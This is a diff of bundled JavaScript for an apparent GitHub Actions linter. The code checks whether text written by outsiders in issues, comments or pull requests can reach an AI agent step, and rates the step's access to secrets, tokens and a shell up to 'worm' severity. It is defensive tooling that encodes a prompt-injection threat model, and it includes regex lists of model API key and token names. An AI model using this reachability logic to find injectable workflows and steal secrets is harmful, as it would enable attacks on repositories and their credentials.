-      known.push(f);
-    } else {
-      fresh.push(f);
-    }
-  }
-  const gone = [...left.values()].filter((s) => s.count > 0).map((s) => ({ ...s.entry, count: s.count }));
-  return { fresh, known, gone };
-}
-function baselineNote(file, outcome) {
-  const known = outcome.known.length;
-  const gone = outcome.gone.reduce((n, e) => n + e.count, 0);
-  let line = `baseline ${file}: ${known} known finding${known === 1 ? "" : "s"} not reported`;
-  if (gone > 0) line += `, ${gone} baselined finding${gone === 1 ? "" : "s"} no longer found (fixed or changed; refresh with --write-baseline)`;
-  return line;
-}
-
-// src/action/lint.ts
-init_types();
-
-// src/lint.ts
-var import_node_fs5 = __toESM(require("node:fs"));
-var import_node_path4 = __toESM(require("node:path"));
-
 // src/workflow/model.ts
 function buildWorkflow(file, root) {
   const problems = [];
@@ -18301,15 +16866,17 @@ function readStep(node, index2, problems) {
   const id = scalarText(mapGet(node, "id"));
   const name = scalarText(mapGet(node, "name"));
   const envNode = mapGet(node, "env");
+  const uses = asScalar(mapGet(node, "uses"));
+  const run = asScalar(mapGet(node, "run"));
   return {
     index: index2,
     node,
     id,
     name,
-    label: id ?? name ?? `#${index2 + 1}`,
+    label: id ?? name ?? stepIdentity(uses?.text, run?.text) ?? `#${index2 + 1}`,
     if: asScalar(mapGet(node, "if")),
-    uses: asScalar(mapGet(node, "uses")),
-    run: asScalar(mapGet(node, "run")),
+    uses,
+    run,
     shell: scalarText(mapGet(node, "shell")),
     with: readEntries(mapGet(node, "with"), "with", problems),
     env: envNode?.kind === "scalar" ? [] : readEntries(envNode, "env", problems),
@@ -18317,6 +16884,17 @@ function readStep(node, index2, problems) {
     workingDirectory: scalarText(mapGet(node, "working-directory")),
     continueOnError: mapGet(node, "continue-on-error")
   };
+}
+var MAX_IDENTITY = 60;
+function stepIdentity(uses, run) {
+  if (uses !== void 0 && uses.trim() !== "") return uses.trim().replace(/@[^@]*$/, "");
+  if (run === void 0) return void 0;
+  for (const raw of run.split("\n")) {
+    const line = raw.replace(/\\$/, "").replace(/\s+/g, " ").trim();
+    if (line === "" || line.startsWith("#") || /^(set|shopt) [-+]/.test(line)) continue;
+    return line.length > MAX_IDENTITY ? `${line.slice(0, MAX_IDENTITY - 1)}\u2026` : line;
+  }
+  return void 0;
 }
 function asScalar(node) {
   return node?.kind === "scalar" && node.value !== null ? node : void 0;
@@ -19047,8 +17625,1218 @@ function referencesOf(inner) {
   return refs;
 }
 
+// src/analysis/gates.ts
+var ANY = { k: "any" };
+var BOTH = { k: "bool", t: true, f: true };
+var TRUE = { k: "bool", t: true, f: false };
+var FALSE = { k: "bool", t: false, f: true };
+var OUTSIDER_ASSOCIATIONS = ["none", "contributor", "first_time_contributor", "first_timer", "mannequin"];
+var OBJECT_ROLES = {
+  issue: "issue",
+  comment: "comment",
+  pull_request: "pull_request",
+  review: "review",
+  discussion: "discussion",
+  workflow_run: "workflow_run",
+  head_commit: "commit"
+};
+function parseCondition(node) {
+  if (!node) return null;
+  const text = node.text.trim();
+  if (!text) return null;
+  const templates = findTemplates(text);
+  let source = text;
+  if (templates.length) {
+    if (templates.length !== 1 || templates[0].start !== 0 || templates[0].end !== text.length) return null;
+    source = templates[0].inner;
+  }
+  if (source.length > GITHUB_MAX_EXPRESSION_LENGTH) return null;
+  const parsed = tryParseExpression(source);
+  return parsed instanceof Error ? null : parsed;
+}
+function canPass(condition, scenario2) {
+  if (!condition) return true;
+  try {
+    return truthy(evaluate(condition, scenario2)).t;
+  } catch (err) {
+    if (err instanceof RangeError) return true;
+    throw err;
+  }
+}
+function truthy(v) {
+  switch (v.k) {
+    case "bool":
+      return v;
+    case "strs":
+      return { t: v.v.some((s) => s !== "" && s !== "false" && s !== "0"), f: v.v.some((s) => s === "" || s === "0") };
+    case "array":
+    case "login":
+    case "repo":
+    case "forkRepo":
+      return { t: true, f: false };
+    default:
+      return { t: true, f: true };
+  }
+}
+function evaluate(e, s) {
+  switch (e.kind) {
+    case "literal":
+      if (e.value === null) return { k: "strs", v: [""] };
+      if (typeof e.value === "boolean") return e.value ? TRUE : FALSE;
+      return { k: "strs", v: [String(e.value).toLowerCase()] };
+    case "unary": {
+      const t = truthy(evaluate(e.operand, s));
+      return { k: "bool", t: t.f, f: t.t };
+    }
+    case "binary":
+      return binary(e.op, e.left, e.right, s);
+    case "call":
+      return call(e.name, e.args, s);
+    default: {
+      const path21 = accessPath(e);
+      return path21 ? contextValue(path21, s) : ANY;
+    }
+  }
+}
+function binary(op, left, right, s) {
+  if (op === "&&") {
+    const l2 = truthy(evaluate(left, s));
+    const r2 = truthy(evaluate(right, s));
+    return { k: "bool", t: l2.t && r2.t, f: l2.f || r2.f };
+  }
+  if (op === "||") {
+    const l2 = truthy(evaluate(left, s));
+    const r2 = truthy(evaluate(right, s));
+    return { k: "bool", t: l2.t || r2.t, f: l2.f && r2.f };
+  }
+  const l = evaluate(left, s);
+  const r = evaluate(right, s);
+  if (op === "==") return equals(l, r, s);
+  if (op === "!=") {
+    const eq = equals(l, r, s);
+    return { k: "bool", t: eq.f, f: eq.t };
+  }
+  return BOTH;
+}
+function equals(a, b, s) {
+  if (a.k === "any" || b.k === "any") return BOTH;
+  if (b.k === "login" || b.k === "forkRepo" || b.k === "repo" && a.k !== "login" && a.k !== "forkRepo") [a, b] = [b, a];
+  if (a.k === "login") {
+    if (b.k === "strs") return { k: "bool", t: b.v.some((v) => isBotLogin(v) && !s?.trustedBots?.has(v)), f: true };
+    return BOTH;
+  }
+  if (a.k === "forkRepo") return b.k === "repo" ? FALSE : BOTH;
+  if (a.k === "repo") return b.k === "repo" ? TRUE : BOTH;
+  if (a.k === "strs" && b.k === "strs") {
+    const t = a.v.some((x) => b.v.includes(x));
+    const f = !(a.v.length === 1 && b.v.length === 1 && a.v[0] === b.v[0]);
+    return { k: "bool", t, f };
+  }
+  if (a.k === "bool" && b.k === "bool") return { k: "bool", t: a.t && b.t || a.f && b.f, f: a.t && b.f || a.f && b.t };
+  if (a.k === "bool" && b.k === "strs") return boolVsStrings(a, b.v);
+  if (b.k === "bool" && a.k === "strs") return boolVsStrings(b, a.v);
+  return BOTH;
+}
+function boolVsStrings(a, strs) {
+  const t = a.t && strs.includes("1") || a.f && strs.some((x) => x === "0" || x === "");
+  return { k: "bool", t, f: true };
+}
+function isBotLogin(login) {
+  return login.endsWith("[bot]");
+}
+function call(name, args, s) {
+  switch (name) {
+    case "success":
+    case "failure":
+    case "cancelled":
+      return BOTH;
+    case "always":
+      return TRUE;
+    case "fromjson": {
+      const arg = args[0] && evaluate(args[0], s);
+      if (arg?.k === "strs" && arg.v.length === 1) return fromJsonLiteral(arg.v[0]);
+      return ANY;
+    }
+    case "contains": {
+      if (args.length !== 2) return BOTH;
+      const hay = evaluate(args[0], s);
+      const needle = evaluate(args[1], s);
+      if (hay.k === "array") {
+        const results = hay.items.map((item) => equals(item, needle, s));
+        return { k: "bool", t: results.some((r) => r.t), f: results.every((r) => r.f) };
+      }
+      if (hay.k === "strs" && needle.k === "strs") {
+        const t = hay.v.some((h) => needle.v.some((n) => h.includes(n)));
+        const f = hay.v.some((h) => needle.v.some((n) => !h.includes(n)));
+        return { k: "bool", t, f };
+      }
+      return BOTH;
+    }
+    case "startswith":
+    case "endswith": {
+      const a = args[0] && evaluate(args[0], s);
+      const b = args[1] && evaluate(args[1], s);
+      if (a?.k === "strs" && b?.k === "strs") {
+        const test = (x, y) => name === "startswith" ? x.startsWith(y) : x.endsWith(y);
+        return { k: "bool", t: a.v.some((x) => b.v.some((y) => test(x, y))), f: a.v.some((x) => b.v.some((y) => !test(x, y))) };
+      }
+      return BOTH;
+    }
+    default:
+      return ANY;
+  }
+}
+function fromJsonLiteral(text) {
+  try {
+    return jsonToValue(JSON.parse(text));
+  } catch {
+    return ANY;
+  }
+}
+function jsonToValue(v) {
+  if (Array.isArray(v)) return { k: "array", items: v.map(jsonToValue) };
+  if (typeof v === "boolean") return v ? TRUE : FALSE;
+  if (v === null) return { k: "strs", v: [""] };
+  if (typeof v === "string" || typeof v === "number") return { k: "strs", v: [String(v).toLowerCase()] };
+  return ANY;
+}
+function contextValue(path21, s) {
+  const attacked = (role) => s.attacker.has(role);
+  switch (path21) {
+    case "github.event_name":
+      return { k: "strs", v: [s.event] };
+    case "github.event.action":
+      return s.actions.allowed ? { k: "strs", v: s.actions.allowed } : ANY;
+    case "github.actor":
+    case "github.triggering_actor":
+    case "github.event.sender.login":
+      return attacked("actor") ? { k: "login" } : ANY;
+    case "github.repository":
+      return { k: "repo" };
+    case "github.event.label.name":
+      return attacked("actor") ? { k: "strs", v: [""] } : ANY;
+    case "github.event.pull_request.head.repo.fork":
+      return attacked("pull_request") ? TRUE : ANY;
+    case "github.event.pull_request.head.repo.full_name":
+    case "github.event.pull_request.head.label":
+      return attacked("pull_request") ? { k: "forkRepo" } : ANY;
+    case "github.event.workflow_run.head_repository.full_name":
+      return attacked("workflow_run") ? { k: "forkRepo" } : ANY;
+    case "github.event.workflow_run.head_repository.fork":
+      return attacked("workflow_run") ? TRUE : ANY;
+    case "github.event.workflow_run.actor.login":
+    case "github.event.workflow_run.triggering_actor.login":
+      return attacked("workflow_run") ? { k: "login" } : ANY;
+    case "github.event.head_commit.author.name":
+    case "github.event.head_commit.author.username":
+    case "github.event.head_commit.committer.username":
+      return attacked("commit") ? { k: "login" } : ANY;
+  }
+  const parts = path21.split(".");
+  if (parts[0] === "github" && parts[1] === "event" && parts.length >= 4) {
+    const role = OBJECT_ROLES[parts[2]];
+    const rest = parts.slice(3).join(".");
+    if (role) {
+      if (rest === "author_association") return attacked(role) ? { k: "strs", v: OUTSIDER_ASSOCIATIONS } : ANY;
+      if (rest === "user.login" || rest === "head.user.login" || rest === "head.repo.owner.login") {
+        return attacked(role) ? { k: "login" } : ANY;
+      }
+    }
+  }
+  if (parts[0] === "steps" && parts.length >= 3 && s.permissionSteps.has(parts[1]) && attacked("actor")) {
+    return NOT_PERMITTED;
+  }
+  if (parts[0] === "needs" && parts.length >= 3 && s.permissionJobs.has(parts[1]) && attacked("actor")) {
+    return NOT_PERMITTED;
+  }
+  return ANY;
+}
+var NOT_PERMITTED = { k: "strs", v: ["", "false", "none", "read", "triage", "failure", "skipped"] };
+
+// src/analysis/triggers.ts
+var ACTOR_ROLES = {
+  issues: ["issue"],
+  issue_comment: ["comment"],
+  discussion: ["discussion"],
+  discussion_comment: ["comment"],
+  pull_request: ["pull_request", "commit"],
+  pull_request_target: ["pull_request", "commit"],
+  pull_request_review: ["review"],
+  pull_request_review_comment: ["comment"],
+  workflow_run: ["workflow_run", "commit"],
+  repository_dispatch: ["payload"],
+  push: ["commit"]
+};
+function triggerRuleFor(rules, event) {
+  return rules.find((r) => r.event === event);
+}
+function classifyTriggers(workflow, rules, byName) {
+  return workflow.triggers.map((trigger) => classify(trigger, workflow, rules, byName, /* @__PURE__ */ new Set()));
+}
+function classify(trigger, workflow, rules, byName, seen) {
+  const event = trigger.event.toLowerCase();
+  const rule = triggerRuleFor(rules, event);
+  const filter = trigger.types.map((t) => t.toLowerCase());
+  const maintainerOnly = (rule?.maintainerOnlyTypes ?? []).map((t) => t.toLowerCase());
+  const allActions = { allowed: filter.length ? filter : null, excluded: [] };
+  const outsiderTypes = filter.length ? filter.filter((t) => !maintainerOnly.includes(t)) : null;
+  const outsiderActions = outsiderTypes === null ? { allowed: null, excluded: maintainerOnly } : outsiderTypes.length ? { allowed: outsiderTypes, excluded: [] } : null;
+  const base = { event, trigger, workflow, allActions };
+  if (!rule) return { ...base, firing: "maintainers", outsiderActions: null, uncertain: `unknown event '${event}'` };
+  switch (rule.who) {
+    case "anyone":
+    case "anyone-unprivileged":
+      return { ...base, firing: outsiderActions ? rule.who : "maintainers", outsiderActions };
+    case "callers":
+      return { ...base, firing: "callers", outsiderActions };
+    case "maintainers":
+      return { ...base, firing: "maintainers", outsiderActions: null };
+    case "upstream":
+      return { ...base, ...upstreamFiring(trigger, workflow, rules, byName, seen), outsiderActions };
+  }
+}
+var upstreamMemo = /* @__PURE__ */ new WeakMap();
+function memoFor(byName) {
+  let memo = upstreamMemo.get(byName);
+  if (!memo) upstreamMemo.set(byName, memo = /* @__PURE__ */ new Map());
+  return memo;
+}
+function upstreamFiring(trigger, workflow, rules, byName, seen) {
+  const config = trigger.config;
+  const names = [];
+  if (config?.kind === "map") {
+    const list = config.pairs.find((p) => p.key.text === "workflows")?.value;
+    if (list?.kind === "seq") {
+      for (const i of list.items) if (i.kind === "scalar") names.push(i.text);
+    } else if (list?.kind === "scalar") {
+      names.push(list.text);
+    }
+  }
+  if (!names.length) return { firing: "anyone", uncertain: "workflow_run without a workflows list" };
+  seen.add(workflow);
+  let unresolved = 0;
+  for (const name of names) {
+    const known = memoFor(byName).get(name);
+    if (known === "outsiders") return { firing: "anyone" };
+    if (known === "maintainers") continue;
+    let outsiders = false;
+    let found = false;
+    for (const upstream of byName(name)) {
+      found = true;
+      if (seen.has(upstream)) continue;
+      const fired = upstream.triggers.map((t) => classify(t, upstream, rules, byName, seen));
+      if (fired.some((t) => t.firing === "anyone" || t.firing === "anyone-unprivileged")) {
+        outsiders = true;
+        break;
+      }
+    }
+    if (!found) {
+      unresolved++;
+      continue;
+    }
+    memoFor(byName).set(name, outsiders ? "outsiders" : "maintainers");
+    if (outsiders) return { firing: "anyone" };
+  }
+  if (unresolved) return { firing: "anyone", uncertain: `upstream workflow '${names.join("', '")}' not found in the repository` };
+  return { firing: "maintainers" };
+}
+
+// src/analysis/reach.ts
+var REACH_ORDER = { none: 0, "action-gated": 1, maintainer: 2, "outsider-unprivileged": 3, outsider: 4 };
+var THREAD_EVENTS = /* @__PURE__ */ new Set([
+  "issues",
+  "issue_comment",
+  "pull_request",
+  "pull_request_target",
+  "pull_request_review",
+  "pull_request_review_comment",
+  "discussion",
+  "discussion_comment"
+]);
+var TRIGGERING_ACTOR = { kind: "context", role: "actor", events: null, what: "the triggering actor" };
+function reachOf(origin, step, actorGate) {
+  let best = { level: "none", how: "no trigger lets an outsider reach it" };
+  const hard = hardGates(step);
+  for (const trigger of step.job.triggers) {
+    const event = trigger.event;
+    const callersUnknown = trigger.firing === "callers";
+    if (!callersUnknown && origin.events && !origin.events.includes(event)) continue;
+    if (!callersUnknown && origin.kind === "thread" && !THREAD_EVENTS.has(event)) continue;
+    const candidate = reachOnTrigger(origin, step, trigger, hard, actorGate);
+    if (callersUnknown && candidate.level !== "none") {
+      candidate.callersUnknown = true;
+      if (origin.events) candidate.how = `its callers are unknown here (a reusable workflow no workflow of this repository calls); called from a workflow on ${origin.events.slice(0, 3).join(", ")}, ${origin.what} is outsider text`;
+    }
+    if (REACH_ORDER[candidate.level] > REACH_ORDER[best.level]) best = candidate;
+    if (best.level === "outsider") break;
+  }
+  return best;
+}
+function reachOnTrigger(origin, step, trigger, hard, actorGate) {
+  const event = trigger.event;
+  const role = origin.role;
+  const actorRoles = ACTOR_ROLES[event] ?? [];
+  const who = trigger.firing;
+  const envNote = hard.environment ? `environment '${hard.environment}' may require a reviewer's approval` : void 0;
+  const uncertain = [trigger.uncertain, envNote].filter(Boolean).join("; ") || void 0;
+  const outsiderFires = (who === "anyone" || who === "anyone-unprivileged" || who === "callers") && trigger.outsiderActions && !origin.maintainerChosen;
+  let fallback = { level: "none", how: "gated", uncertain };
+  if (outsiderFires) {
+    const attacker = /* @__PURE__ */ new Set(["actor", ...actorRoles, role]);
+    const blockedBy = directBlocker(hard, actorGate, event);
+    if (passes(step, scenario(event, trigger.outsiderActions, attacker, hard, step))) {
+      const callers = who === "callers" ? "whoever calls this reusable workflow (callers unknown here)" : "any GitHub user";
+      if (!blockedBy) {
+        const level = who === "anyone-unprivileged" ? "outsider-unprivileged" : "outsider";
+        return { level, trigger, how: `${callers} can fire '${event}'${describeTypes(trigger.outsiderActions)}`, uncertain: who === "callers" ? "reusable workflow with no caller in this repository" : uncertain };
+      }
+      if (actorGate && blockedBy === actorGate.description) {
+        fallback = { level: "action-gated", trigger, how: `${callers} can fire '${event}'; only ${actorGate.description} stops outsiders`, uncertain };
+      }
+    }
+  }
+  if ((origin.kind === "fetch" || origin.kind === "thread") && !origin.maintainerChosen && (event === "schedule" || event === "workflow_run" || event === "push")) {
+    if (passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role]), hard, step))) {
+      return { level: "outsider", trigger, how: `'${event}' runs unattended over text outsiders wrote (issues, comments, pull requests)`, uncertain };
+    }
+  }
+  const indirectPossible = role !== "actor" && (!actorRoles.includes(role) || hasMaintainerActions(trigger) || origin.kind !== "context");
+  if (indirectPossible && passes(step, scenario(event, trigger.allActions, /* @__PURE__ */ new Set([role, ...role === "pull_request" ? ["commit"] : []]), hard, step))) {
+    const whose = origin.kind === "context" ? `the ${origin.role.replace("_", " ")} an outsider wrote` : "text outsiders wrote";
+    return { level: "maintainer", trigger, how: `only a maintainer's '${event}' starts it, but over ${whose} (one click on a poisoned issue is enough)`, uncertain };
+  }
+  return fallback;
+}
+function describeTypes(actions) {
+  return actions.allowed ? ` (${actions.allowed.join(", ")})` : "";
+}
+function hasMaintainerActions(trigger) {
+  const outsider = trigger.outsiderActions;
+  if (!outsider) return true;
+  const all = trigger.allActions.allowed;
+  if (!all) return outsider.excluded.length > 0;
+  return all.some((a) => !outsider.allowed || !outsider.allowed.includes(a));
+}
+function directBlocker(hard, actorGate, event) {
+  if (hard.blockingCheck) return hard.blockingCheck;
+  if (actorGate?.enforcedOn(event)) return actorGate.description;
+  return void 0;
+}
+function scenario(event, actions, attacker, hard, step) {
+  return { event, actions, attacker, permissionSteps: hard.permissionSteps, permissionJobs: hard.permissionJobs, trustedBots: step.job.trust.bots };
+}
+function passes(step, s) {
+  for (const c of step.job.conditions) if (!canPass(c.expr, s)) return false;
+  for (const c of step.conditions) if (!canPass(c.expr, s)) return false;
+  return true;
+}
+function hardGates(step) {
+  const job = step.job;
+  const gates = { permissionSteps: /* @__PURE__ */ new Set(), permissionJobs: /* @__PURE__ */ new Set() };
+  if (job.job.environment) gates.environment = job.job.environment.name;
+  for (const s of job.steps) {
+    if (s.position >= step.position) break;
+    const kind = permissionCheckKind(s);
+    if (!kind) continue;
+    if (s.step.id) gates.permissionSteps.add(s.step.id);
+    if (kind === "fails" && !s.step.continueOnError) gates.blockingCheck = `the permission check in step '${s.step.label}'`;
+  }
+  for (const needed of allNeeds(job.needs)) {
+    if (needed.steps.some((s) => permissionCheckKind(s))) {
+      gates.permissionJobs.add(needed.job.id);
+      if (needed.steps.some((s) => permissionCheckKind(s) === "fails")) gates.blockingCheck = `the permission check in job '${needed.job.id}'`;
+    }
+  }
+  return gates;
+}
+function allNeeds(needs) {
+  const out = /* @__PURE__ */ new Set();
+  const stack = [...needs];
+  while (stack.length) {
+    const j = stack.pop();
+    if (out.has(j)) continue;
+    out.add(j);
+    stack.push(...j.needs);
+  }
+  return [...out];
+}
+var PERMISSION_ACTIONS = /^(actions-cool\/check-user-permission|sushichop\/action-repository-permission|prince-chrismc\/check-actor-permissions-action|lannonbr\/repo-permission-check-action|xt0rted\/slash-command-action|TheModdingInquisition\/actions-team-membership|tspascoal\/get-user-teams-membership)@/i;
+var PERMISSION_API = /getCollaboratorPermissionLevel|collaborators\/[^/\s]+\/permission|\/permission\b|checkMembershipForUser|getMembershipForUserInOrg|orgs\/[^/\s]+\/members\/|teams\/[^/\s]+\/memberships/;
+var FAILS = /setFailed|process\.exit\(\s*1|\bexit\s+1\b|throw\s+new\s+Error|core\.setFailed/;
+function permissionCheckKind(s) {
+  const uses = s.step.uses?.text ?? "";
+  if (PERMISSION_ACTIONS.test(uses)) {
+    return /actions-cool\/check-user-permission|membership/i.test(uses) ? "reports" : "fails";
+  }
+  const code3 = /^actions\/github-script@/i.test(uses) ? inputOf(s.step.with, "script")?.text ?? "" : s.step.run?.text ?? "";
+  if (!code3 || !PERMISSION_API.test(code3)) return null;
+  return FAILS.test(code3) ? "fails" : "reports";
+}
+
+// src/analysis/severity.ts
+var POWERFUL_SCOPES = /* @__PURE__ */ new Set(["*", "contents", "actions", "packages", "workflows", "deployments", "pages"]);
+function holdingOf(c) {
+  if (c.jailed) return "nothing";
+  const exfil = c.tools.shell === "full" || c.tools.network;
+  const nonModelSecrets = c.secrets.some((s) => !s.modelKey);
+  const hasTools = c.tools.shell !== "none" || c.tools.network || c.tools.writesFiles;
+  const tokenInHand = c.tokens.length > 0 && hasTools;
+  const powerfulToken = c.writeScopes.some((s) => POWERFUL_SCOPES.has(s)) && (tokenInHand || c.persistedCredentials);
+  const publishPower = nonModelSecrets || c.tokens.some((t) => t.foreign) || powerfulToken || c.idToken || c.selfHosted || c.cloudCredentials.length > 0;
+  if (c.tools.shell === "full" && !c.selfHosted) return "worm";
+  if ((exfil || c.tools.shell === "restricted") && publishPower) return "worm";
+  const anyWrite = c.writeScopes.length > 0;
+  const modelKey = c.keyInProcess && c.secrets.some((s) => s.modelKey);
+  if (exfil) return "acts";
+  if (tokenInHand && anyWrite) return "acts";
+  if (c.commands?.length || c.remoteAgent) return "acts";
+  if (c.tools.shell === "restricted" && (anyWrite || nonModelSecrets || modelKey)) return "acts";
+  if (c.idToken && c.tools.shell !== "none") return "acts";
+  return "nothing";
+}
+function severityFor(reach, c) {
+  if (reach === "none") return null;
+  if (reach === "action-gated") return "low";
+  const holding = holdingOf(c);
+  if (reach === "outsider") return holding === "worm" ? "critical" : holding === "acts" ? "high" : "medium";
+  if (reach === "outsider-unprivileged") return "medium";
+  return holding === "nothing" ? "low" : "medium";
+}
+
+// src/checks/context.ts
+var DOCS_BASE = "https://github.com/agent-guard/agent-guard/blob/main/docs/rules";
+function docsUrl(id) {
+  return `${DOCS_BASE}/${id}.md`;
+}
+
+// src/analysis/capabilities.ts
+var HOSTED_RUNNER = /^(ubuntu|windows|macos)-|^(ubuntu|windows|macos)$/i;
+var MODEL_KEY_NAME = /(ANTHROPIC|CLAUDE|OPENAI|GEMINI|GOOGLE_API|QWEN|DASHSCOPE|OPENROUTER|MISTRAL|GROQ|DEEPSEEK|COHERE|XAI|OPENCODE|CURSOR|FACTORY|WARP|AMP|LLM|AI)_?(API_?)?(KEY|TOKEN)|OAUTH_TOKEN/i;
+function looksLikeModelKey(name) {
+  return MODEL_KEY_NAME.test(name);
+}
+var TOKEN_ENV = /^(GITHUB_TOKEN|GH_TOKEN|GITHUB_PAT|GH_PAT|GH_ENTERPRISE_TOKEN|GITHUB_PERSONAL_ACCESS_TOKEN|COPILOT_GITHUB_TOKEN)$/;
+function secretRefs(node, within, depth = 0) {
+  const out = { secrets: [], githubToken: false };
+  const visit = (n) => {
+    if (!n) return;
+    if (n.kind === "map") return n.pairs.forEach((p) => visit(p.value));
+    if (n.kind === "seq") return n.items.forEach(visit);
+    if (typeof n.value !== "string") return;
+    const inner = textSecretRefs(n.text, within, depth);
+    out.secrets.push(...inner.secrets);
+    out.githubToken ||= inner.githubToken;
+  };
+  visit(node);
+  return out;
+}
+function textSecretRefs(text, within, depth) {
+  const out = { secrets: [], githubToken: false };
+  if (!text.includes("${{")) return out;
+  for (const t of findTemplates(text)) {
+    for (const r of referencesOf(t.inner) ?? []) {
+      if (r.path === "github.token" || r.path === "secrets.github_token") out.githubToken = true;
+      else if (r.path.startsWith("secrets.") && r.path.length > 8) out.secrets.push(r.path.slice(8).toUpperCase());
+      else if (r.path === "secrets" || r.path === "secrets.*") out.secrets.push("*");
+      else if (r.path.startsWith("inputs.") && within?.frame && depth < 8) {
+        const given = inputOf(within.frame.callerStep.step.with, r.path.slice(7));
+        const inner = secretRefs(given?.value, within.frame.callerStep, depth + 1);
+        out.secrets.push(...inner.secrets);
+        out.githubToken ||= inner.githubToken;
+      }
+    }
+  }
+  return out;
+}
+function envLines(text) {
+  const out = [];
+  for (const line of text.split("\n")) {
+    const m = /^\s*([A-Za-z_][A-Za-z0-9_]*)\s*[:=]\s*(.*?)\s*$/.exec(line);
+    if (m) out.push({ name: m[1], value: m[2] });
+  }
+  return out;
+}
+function writeScopesOf(permissions) {
+  if (!permissions) return { scopes: ["*"], isDefault: true, idToken: false };
+  if (permissions.all === "write") return { scopes: ["*"], isDefault: false, idToken: true };
+  const scopes = Object.entries(permissions.scopes).filter(([scope, level]) => level === "write" && scope !== "id-token").map(([scope]) => scope);
+  return { scopes, isDefault: false, idToken: permissions.scopes["id-token"] === "write" };
+}
+var RUN_SCRIPT = { shell: "full", network: true, writesFiles: true };
+function shellCapabilities(step) {
+  return capabilitiesAt(step, { keyEnv: [] }, RUN_SCRIPT, false);
+}
+function capabilitiesAt(step, agent, tools, jailed, grants = []) {
+  const secrets = [];
+  const tokens = [];
+  const keyInputs = new Set((agent.action?.keyInputs ?? []).map((i) => i.toLowerCase()));
+  const tokenInputs = new Set((agent.action?.tokenInputs ?? []).map((i) => i.toLowerCase()));
+  const isModelKey = (name, secret) => agent.keyEnv.includes(name) || keyInputs.has(name.toLowerCase()) || MODEL_KEY_NAME.test(secret) || MODEL_KEY_NAME.test(name);
+  const envLayers = [
+    { entries: step.step.env, where: "env", within: step },
+    ...framesOf(step).map((caller) => ({ entries: caller.step.env, where: `env of step '${caller.step.label}'`, within: caller })),
+    { entries: step.job.job.env, where: "job env", within: step },
+    { entries: step.job.workflow.env, where: "workflow env", within: step }
+  ];
+  for (const layer of envLayers) {
+    for (const entry of layer.entries) {
+      const refs = secretRefs(entry.value, layer.within);
+      for (const s of refs.secrets) secrets.push({ name: s, via: `${layer.where} ${entry.name}`, modelKey: isModelKey(entry.name, s) });
+      const tokenVar = TOKEN_ENV.test(entry.name) && entry.value.kind === "scalar" && entry.value.text.trim() !== "";
+      if (refs.githubToken || tokenVar) {
+        tokens.push({ via: `${layer.where} ${entry.name}`, foreign: !refs.githubToken });
+      }
+    }
+  }
+  const envInputs = new Set((agent.action?.envInputs ?? []).map((i) => i.toLowerCase()));
+  for (const input of step.step.with) {
+    if (envInputs.has(input.name.toLowerCase())) {
+      for (const line of envLines(input.text)) {
+        const refs2 = textSecretRefs(line.value, step, 0);
+        for (const s of refs2.secrets) secrets.push({ name: s, via: `input ${input.name} ${line.name}`, modelKey: isModelKey(line.name, s) });
+        if (refs2.githubToken || TOKEN_ENV.test(line.name) && line.value !== "" && line.value !== "''") tokens.push({ via: `input ${input.name} ${line.name}`, foreign: !refs2.githubToken });
+      }
+      continue;
+    }
+    const refs = secretRefs(input.value, step);
+    for (const s of refs.secrets) {
+      const token = tokenInputs.has(input.name.toLowerCase()) || TOKEN_ENV.test(s);
+      if (token) tokens.push({ via: `input ${input.name}`, foreign: true });
+      else secrets.push({ name: s, via: `input ${input.name}`, modelKey: isModelKey(input.name, s) });
+    }
+    if (refs.githubToken && tokenInputs.has(input.name.toLowerCase())) tokens.push({ via: `input ${input.name}`, foreign: false });
+  }
+  if (agent.action?.tokenInputs?.length && !tokens.some((t) => t.via.startsWith("input"))) {
+    tokens.push({ via: "the default github.token", foreign: false });
+  }
+  const inherited = step.job.caller?.secrets;
+  if (inherited === "inherit") secrets.push({ name: "*", via: "secrets: inherit from the caller", modelKey: false });
+  if (tools.shell === "full" && !isSelfHosted(step)) {
+    const known = new Set(secrets.map((s) => s.name));
+    for (const { name, label } of jobSecrets(step.job)) {
+      if (known.has(name)) continue;
+      known.add(name);
+      secrets.push({ name, via: `the runner's memory (used by step '${label}')`, modelKey: MODEL_KEY_NAME.test(name) });
+    }
+    tokens.push({ via: "the runner's memory (a shell with sudo reads the job's GITHUB_TOKEN)", foreign: false });
+  }
+  const cloud = cloudLogins(step);
+  const persisted = persistedCheckout(step);
+  if (persisted) tokens.push({ via: "credentials persisted in .git/config by actions/checkout", foreign: false });
+  const perms = writeScopesOf(step.job.permissions);
+  const keyInProcess = agent.keyInProcess ?? true;
+  const commands = jailed ? [] : commandsInReach(step, agent.action, tokens.length > 0, perms.scopes);
+  return {
+    secrets: jailed ? [] : secrets,
+    tokens: jailed ? [] : tokens,
+    writeScopes: perms.scopes,
+    permissionsDefault: perms.isDefault,
+    idToken: perms.idToken && !jailed,
+    cloudCredentials: jailed ? [] : cloud,
+    selfHosted: isSelfHosted(step),
+    persistedCredentials: persisted && !jailed,
+    tools: jailed ? { ...tools, network: false } : tools,
+    keyInProcess: keyInProcess && !jailed,
+    jailed,
+    grants: jailed ? grants : [],
+    ...commands.length ? { commands } : {}
+  };
+}
+function commandsInReach(step, action, hasToken, scopes) {
+  const surface = action?.commandSurface;
+  if (!surface || !hasToken || !step.job.triggers.some((t) => surface.events.includes(t.event))) return [];
+  return surface.commands.filter((c) => c.writes.some((w) => scopes.includes("*") || scopes.includes(w)));
+}
+var jobSecretsMemo = /* @__PURE__ */ new WeakMap();
+function jobSecrets(job) {
+  let known = jobSecretsMemo.get(job);
+  if (known) return known;
+  known = [];
+  const seen = /* @__PURE__ */ new Set();
+  for (const other of job.steps) {
+    for (const name of stepSecrets(other)) {
+      if (seen.has(name)) continue;
+      seen.add(name);
+      known.push({ name, label: other.step.label });
+    }
+  }
+  jobSecretsMemo.set(job, known);
+  return known;
+}
+function stepSecrets(step) {
+  const out = [];
+  const nodes = [...step.step.with.map((w) => w.value), ...step.step.env.map((e) => e.value), step.step.run];
+  for (const n of nodes) out.push(...secretRefs(n).secrets);
+  return out.filter((s) => s !== "*" && s !== "GITHUB_TOKEN");
+}
+function framesOf(step) {
+  const out = [];
+  for (let f = step.frame; f; f = f.callerStep.frame) out.push(f.callerStep);
+  return out;
+}
+function isSelfHosted(step) {
+  const labels = step.job.job.runsOn;
+  if (!labels.length) return false;
+  if (labels.some((l) => l.includes("${{"))) return false;
+  return labels.some((l) => /self-hosted/i.test(l)) || !labels.some((l) => HOSTED_RUNNER.test(l));
+}
+var CLOUD_LOGINS = [
